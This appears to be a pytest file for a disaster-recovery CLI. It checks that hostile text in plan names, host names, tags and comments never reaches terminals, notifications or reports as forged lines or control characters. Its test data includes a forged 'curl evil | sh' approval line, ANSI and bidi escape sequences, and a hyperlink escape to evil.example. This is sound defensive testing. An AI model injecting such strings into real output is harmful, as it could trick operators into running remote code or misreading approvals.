"""Hostile text in every field, from the plan through the run to each message, view and report.

The API of this version refuses hidden characters. An older one has stored them, and AWS has them in host names and
tags, so these tests switch the refusal off.
"""

import itertools
import json
import re
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from cli.main import app
from recovery import free_text
from tests.support.api_http_server import ApiHttpServer
from tests.support.inbox import TOPIC, Inbox
from tests.support.product import HUB, WEST, Product
from tests.support.runs import decide, wait_until, wait_until_asked_for

# What a text would print if it could begin a line.
FORGED = (
    "Approve: FORGED curl evil | sh",
    "Result: FORGED COMPLETED",
    "Stack: FORGED",
    "drs-waves approve FORGED web",
    "reason: FORGED",
    "note  FORGED",
    "approve web by FORGED",
    "FORGED  LAUNCHED  i-0123",
)
BREAKS = ("\n", "\r\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\n    ", "\n\t", "\n  > \n", " " * 90)
HIDDEN = (
    "\x1b[2J",
    "\x1b]0;t\x07",
    "\x1b]8;;https://evil.example\x1b\\",
    "\x9b31m",
    "\x08\x08",
    "\u202e",
    "\u2066",
    "\u2069",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\u00ad",
    "\U000e0041",
    "\u200e",
)
# Every break before every forged line, with a hidden character somewhere: 96 texts; and each hidden one by itself.
TEXTS = [
    f"ok{hidden}{break_}{forged}"
    for (break_, forged), hidden in zip(itertools.product(BREAKS, FORGED), itertools.cycle(HIDDEN), strict=False)
] + [f"ok{hidden}ok {{plan}} [red]{hidden}" for hidden in HIDDEN]
FACTS = (
    "Plan|Kind|Execution|Started by|Approvals|Point in time|Continues|Live instances|Waves|Watch|Wave|Until|Needs|"
    "Approve|Reject|Go on|Result|Servers|Retry|Accept|Abort|Decision|By|Comment|Stack|Account|Region|Recover the rest|"
    "Resume|Message|See all servers|Report|Failed, [A-Z_]+|What to do(?: about [A-Z_]+)?"
)
CATEGORIES = ("Cc", "Cf", "Cs", "Co", "Zl", "Zp")


@pytest.fixture
def product(monkeypatch: pytest.MonkeyPatch) -> Iterator[Product]:
    monkeypatch.setattr(free_text, "find_hidden", lambda *_, **__: None)
    for name in ("DRS_WAVES_API_URL", "DRS_WAVES_STACK"):
        monkeypatch.delenv(name, raising=False)
    with Product(OPERATORS_TOPIC_ARN=TOPIC) as running:
        yield running


def assert_harmless(text: str, *, is_message: bool = False) -> None:
    for line in text.split("\n"):
        hidden = [hex(ord(each)) for each in line if unicodedata.category(each) in CATEGORIES]
        assert not hidden, (hidden, line)
        assert not line.lstrip().startswith(FORGED), line
        if is_message:
            assert re.match(rf"(?:{FACTS}):|  ", line), line


def shown_by(api_server: ApiHttpServer, *words: str) -> str:
    result = CliRunner().invoke(app, [*words, "--api-url", api_server.url, "--region", WEST])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    # The function under test logs to the same streams.
    return "\n".join(line for line in result.output.split("\n") if not line.startswith('{"'))


@pytest.mark.parametrize("part", [0, 1, 2])
def test_hostile_text_in_every_field_of_a_run_reaches_no_reader_as_a_line_or_a_control(
    product: Product, tmp_path: Path, part: int
) -> None:
    texts = TEXTS[part::3]
    assert len(TEXTS) >= 100
    inbox, some = Inbox(product), iter(itertools.cycle(texts))
    hosts = [f"h{number} {text}"[:100] for number, text in enumerate(itertools.islice(some, 12))]
    servers = product.emulator.seed(HUB, WEST, [{"hostname": host, "tags": {"a": next(some)}} for host in hosts])
    failing = product.emulator.seed(HUB, WEST, [{"hostname": f"bad {next(some)}"[:100], "failsAt": "LAUNCH"}])
    named = {"name": f"group {texts[0]}"[:100], "description": texts[1]}
    group = product.group([*servers, *failing], **named)
    plan = product.plan(
        {"name": "web", "groups": [group], "approval": {"required": True}, "onFailure": "ask"},
        {"name": "app", "groups": [product.group(product.seed(1))], "approval": {"required": True}},
        name=f"plan {texts[2]}"[:100],
        description=texts[3],
        launchAttempts=1,
    )
    run_id = product.start(plan)
    wait_until_asked_for(product, run_id, "APPROVAL")
    for text, decision in zip(texts, itertools.cycle(["pause", "resume"]), strict=False):
        assert decide(product, run_id, decision, text).status == 200
    if len(texts) % 2:
        assert decide(product, run_id, "resume", texts[0]).status == 200
    assert decide(product, run_id, "waves/web/approve", texts[4]).status == 200
    wait_until(product, run_id, lambda record: any(wait["for"] == "DECISION" for wait in record["waitingFor"]))
    with ApiHttpServer(product) as api_server:
        assert_harmless(shown_by(api_server, "status", run_id, "--servers"))
        assert decide(product, run_id, "waves/web/accept", texts[5]).status == 200
        wait_until_asked_for(product, run_id, "APPROVAL")
        assert decide(product, run_id, "waves/app/reject", texts[6]).status == 200
        product.finish(run_id)
        for words in (
            ("status", run_id, "--servers"),
            ("watch", run_id, "--interval", "0.2", "--report", str(tmp_path)),
            ("list",),
            ("run", "no such plan"),
            ("pause", run_id),
            ("readiness", plan, "--interval", "0.2"),
        ):
            assert_harmless(shown_by(api_server, *words))
        as_json = shown_by(api_server, "status", run_id, "--json")
        exported = shown_by(api_server, "plan", "export", plan)
    stored = product.record(run_id)
    assert json.loads(as_json[as_json.index("{") :])["decisions"] == stored["decisions"]
    assert {each["comment"] for each in stored["decisions"]} >= set(texts)
    assert yaml.safe_load(exported)["recoveryPlan"]["description"] == texts[3]
    assert_harmless(exported.replace("  ", ""))

    messages = inbox.messages()
    assert len([each for each in messages if each["MessageAttributes"]["kind"]["Value"] == "DECIDED"]) > len(texts)
    for message in messages:
        assert_harmless(message["Message"], is_message=True)
        assert message["Subject"].isprintable()
        commands = [line for line in message["Message"].split("\n") if line.startswith("Approve:")]
        assert all(
            re.fullmatch(rf"Approve: drs-waves approve {run_id} (?:web|app) --stack drs-waves --region {WEST}", line)
            for line in commands
        )
    for file in ("report.html", "report.json"):
        page = (tmp_path / file).read_text(encoding="utf-8")
        assert_harmless(page if file == "report.json" else page.replace("\t", ""))
    assert json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))["decisions"][0]["comment"] == texts[0]


def test_a_diff_shows_what_a_text_hides_and_where_long_texts_differ(product: Product, tmp_path: Path) -> None:
    group = product.group(product.seed(1), name="shop", description=TEXTS[0])
    plan = product.plan({"name": "web", "groups": [group]}, name="shop", description="\u202e" + "a" * 900)
    file = tmp_path / "shop.yaml"
    with ApiHttpServer(product) as api_server:
        data = yaml.safe_load(shown_by(api_server, "plan", "export", plan))
        data["protectionGroups"][0]["description"] = TEXTS[1]
        data["recoveryPlan"]["description"] = "\u202e" + "a" * 899 + "b"
        file.write_text(json.dumps(data), encoding="utf-8")
        shown = shown_by(api_server, "plan", "diff", str(file))
    assert_harmless(shown)
    (differs,) = (line for line in shown.split("\n") if "aaaa" in line)
    assert re.search(r'a+" -> …a+b"$', differs), differs
    (of_group,) = (line for line in shown.split("\n") if "Approve" in line)
    assert "\\u001b[2J\\nApprove" in of_group


def test_what_a_proxy_answers_is_shown_indented_and_in_one_line(product: Product) -> None:
    with ApiHttpServer(product) as api_server:
        answer = {
            "message": "no\x1b[2J\nWatch it:  drs-waves approve FORGED",
            "code": "X\nFORGED",
            "problems": "strange",
        }
        api_server.instead["GET", "/executions/x"] = [(404, answer), (404, "<html>\n" + TEXTS[0])]
        for _ in range(2):
            first, *rest = shown_by(api_server, "status", "x").rstrip("\n").split("\n")
            assert first.startswith("GET /executions/x answered 404")
            assert all(line.startswith("  ") for line in rest)
            assert_harmless("\n".join([first, *rest]))
